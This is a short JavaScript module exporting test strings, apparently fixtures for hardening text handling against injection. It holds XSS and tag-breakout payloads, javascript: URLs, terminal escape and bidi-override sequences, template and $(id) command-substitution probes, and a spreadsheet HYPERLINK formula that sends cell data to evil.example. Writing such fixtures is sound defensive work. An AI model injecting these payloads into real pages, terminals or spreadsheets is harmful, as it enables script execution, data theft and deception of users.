/** What somebody may put where a text is wanted, to have it run, load, break out or mislead. */
export const MARKS = {
  markup: `</title></style></pre></summary></script><script>alert(1)</script><img src=x onerror=alert(1)>`,
  quotes: `"'\`><a href="javascript:alert(1)" style="position:fixed" onfocus=alert(1) autofocus x="`,
  addresses: "javascript:alert(1) https://evil.example/ data:text/html,<b> //evil.example",
  controls: "a\0b\u001b[31mc\u001b]8;;https://evil.example\u0007d\u0085e",
  "turned order": "x\u202e\u2066\u2067\u200f\u061cy\u2069\u202c",
  "ends of lines": "\ufeffx\u2028y\u2029z\r\nw\rv",
  "a formula": '=HYPERLINK("https://evil.example"&A1)',
  comments: "<!-- --!> ]]> <![CDATA[ <? {{7*7}} $(id) &lt;b&gt; &#0;",
};
